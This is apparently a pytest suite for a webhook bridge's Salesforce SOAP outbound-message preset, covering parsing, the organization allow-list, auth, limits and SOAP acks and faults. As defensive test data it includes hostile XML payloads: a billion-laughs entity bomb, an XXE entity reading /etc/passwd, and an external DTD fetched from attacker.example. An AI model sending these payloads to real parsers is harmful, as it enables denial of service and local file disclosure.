"""Salesforce preset: SOAP outbound messages, the org allow-list, hostile XML, the Ack."""

from __future__ import annotations

import base64
import xml.etree.ElementTree as ET
from typing import Any

import pytest
from jinja2 import ChainableUndefined
from jinja2.sandbox import ImmutableSandboxedEnvironment

from bridge.demo import payload_path
from bridge.errors import BadRequest, Unauthorized, UnsupportedMediaType
from bridge.sources import get_preset
from bridge.sources.base import AuthConfig, InboundRequest, SourceOptions
from bridge.sources.salesforce import SalesforceSource

FIXTURE = payload_path("salesforce", "two_notifications.xml")
ORG = "00D000000000062EAA"
JINJA = ImmutableSandboxedEnvironment(undefined=ChainableUndefined)
SOAPENV = "{http://schemas.xmlsoap.org/soap/envelope/}"
OUTBOUND = "{http://soap.sforce.com/2005/09/outbound}"


def request(
    body: bytes, headers: dict[str, str] | None = None, content_type: str = "text/xml"
) -> InboundRequest:
    return InboundRequest(
        "POST", "https://bridge.example.com/hooks/sf", headers or {}, {}, body, content_type, 1e9
    )


def source(*orgs: str, auth: AuthConfig | None = None) -> SalesforceSource:
    return SalesforceSource(SourceOptions(organization_ids=orgs or (ORG,), auth=auth))


def message(count: int, *, org: str = ORG) -> bytes:
    notification = (
        "<Notification><Id>04l00000000{n:04d}AAA</Id>"
        '<sObject xsi:type="sf:Opportunity" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
        "<sf:StageName>Closed Lost</sf:StageName></sObject></Notification>"
    )
    notifications = "".join(notification.format(n=n) for n in range(count))
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"'
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body>'
        '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
        f"<OrganizationId>{org}</OrganizationId><ActionId>04k000000000001AAA</ActionId>"
        f"{notifications}</notifications></soapenv:Body></soapenv:Envelope>"
    ).encode()


def when(payload: Any, event: Any) -> bool:
    compiled = JINJA.compile_expression(SalesforceSource.default_when or "")
    return bool(compiled(payload=payload, event=event, headers={}, query={}, route="sf"))


def test_two_notifications_become_two_items() -> None:
    body = FIXTURE.read_bytes()
    src = source()
    src.verify(request(body))
    parsed = src.parse(request(body))
    assert parsed.payload["OrganizationId"] == ORG
    assert parsed.payload["ActionId"] == "04k000000000001AAA"
    assert "SessionId" not in parsed.payload
    assert [i.idempotency_key for i in parsed.items] == ["04l000000000001AAA", "04l000000000002AAA"]
    first, second = (item.event for item in parsed.items)
    assert first == {
        "Id": "04l000000000001AAA",
        "sObject": {
            "type": "Opportunity",
            "Id": "006000000000001AAA",
            "StageName": "Closed Lost",
            "Name": "ACME renewal",
            "MeetBit_Calendar_Id__c": "12",
            "MeetBit_Event_Id__c": "345",
            "Loss_Reason__c": None,
        },
    }
    assert second["sObject"]["Name"] == "Globex & Co expansion"
    assert parsed.payload["notifications"] == [first, second]
    assert [when(parsed.payload, e) for e in (first, second)] == [True, False]
    assert SalesforceSource.default_respond == "ack"


def test_duplicate_notification_ids_collapse() -> None:
    body = message(2).replace(b"04l000000000001AAA", b"04l000000000000AAA")
    parsed = source().parse(request(body))
    assert [i.idempotency_key for i in parsed.items] == ["04l000000000000AAA"]


def test_organization_allow_list() -> None:
    body = message(1)
    source("00D000000000099EAA", ORG).verify(request(body))
    source(ORG[:15]).verify(request(body))  # the 15-character form of the same org
    with pytest.raises(Unauthorized) as exc:
        source("00D000000000099EAA").verify(request(body))
    assert exc.value.reason == "organization_not_allowed"
    with pytest.raises(Unauthorized) as exc:
        source(ORG.lower()).verify(request(body))
    assert exc.value.reason == "organization_not_allowed"
    no_org = body.replace(f"<OrganizationId>{ORG}</OrganizationId>".encode(), b"")
    with pytest.raises(Unauthorized) as exc:
        source().verify(request(no_org))
    assert exc.value.reason == "organization_not_allowed"


def test_auth_is_checked_when_configured() -> None:
    auth = AuthConfig(basic=(("salesforce", "pw"),))
    good = {"authorization": "Basic " + base64.b64encode(b"salesforce:pw").decode()}
    source(auth=auth).verify(request(message(1), good))
    with pytest.raises(Unauthorized) as exc:
        source(auth=auth).verify(request(message(1)))
    assert exc.value.reason == "missing_header"


def test_notification_limits() -> None:
    assert len(source().parse(request(message(100))).items) == 100
    with pytest.raises(BadRequest, match="at most 100"):
        source().parse(request(message(101)))
    with pytest.raises(BadRequest):
        source().parse(request(message(0)))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>00D000000000062EAA</OrganizationId><Notification><Id>&lol9;</Id></Notification>
</notifications>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE notifications [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>00D000000000062EAA</OrganizationId><Notification><Id>&xxe;</Id></Notification>
</notifications>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE notifications SYSTEM "http://attacker.example/evil.dtd">
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>00D000000000062EAA</OrganizationId></notifications>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_hostile_xml_is_refused_before_expansion(body: bytes) -> None:
    for step in (source().verify, source().parse):
        with pytest.raises(BadRequest, match="XML entities are not allowed"):
            step(request(body))


@pytest.mark.parametrize(
    ("body", "content_type", "error"),
    [
        (b'{"OrganizationId": "00D000000000062EAA"}', "application/json", UnsupportedMediaType),
        (FIXTURE.read_bytes(), "", UnsupportedMediaType),
        (b"<notifications><OrganizationId>", "text/xml", BadRequest),
        (b"<notifications>\xff</notifications>", "text/xml", BadRequest),
        (b"<other/>", "application/xml", BadRequest),
        (b"", "text/xml", BadRequest),
    ],
)
def test_bodies_that_cannot_be_parsed(body: bytes, content_type: str, error: type) -> None:
    with pytest.raises(error):
        source().parse(request(body, content_type=content_type))


@pytest.mark.parametrize("status", [200, 202])
def test_success_is_acknowledged_with_soap(status: int) -> None:
    answer = source().acknowledge(status, {"outcome": "queued"})
    assert answer is not None
    body, code, content_type = answer
    assert (code, content_type) == (200, "text/xml")
    ack = ET.fromstring(body).find(f"{SOAPENV}Body/{OUTBOUND}notificationsResponse/{OUTBOUND}Ack")
    assert ack is not None and ack.text == "true"


@pytest.mark.parametrize(("status", "code"), [(401, "soapenv:Client"), (503, "soapenv:Server")])
def test_errors_become_soap_faults_with_the_same_status(status: int, code: str) -> None:
    answer = source().acknowledge(status, {"title": "t", "detail": "org <x> & co not allowed"})
    assert answer is not None
    body, returned, content_type = answer
    assert (returned, content_type) == (status, "text/xml")
    fault = ET.fromstring(body).find(f"{SOAPENV}Body/{SOAPENV}Fault")
    assert fault is not None
    assert fault.findtext("faultcode") == code
    assert fault.findtext("faultstring") == "org <x> & co not allowed"


def test_options() -> None:
    assert get_preset("salesforce") is SalesforceSource
    with pytest.raises(ValueError, match="organization_ids"):
        SalesforceSource(SourceOptions())
    with pytest.raises(ValueError, match="organization id"):
        SalesforceSource(SourceOptions(organization_ids=("00D-bad",)))
    with pytest.raises(ValueError, match="secret_env"):
        SalesforceSource(SourceOptions(organization_ids=(ORG,), secrets=("s",)))
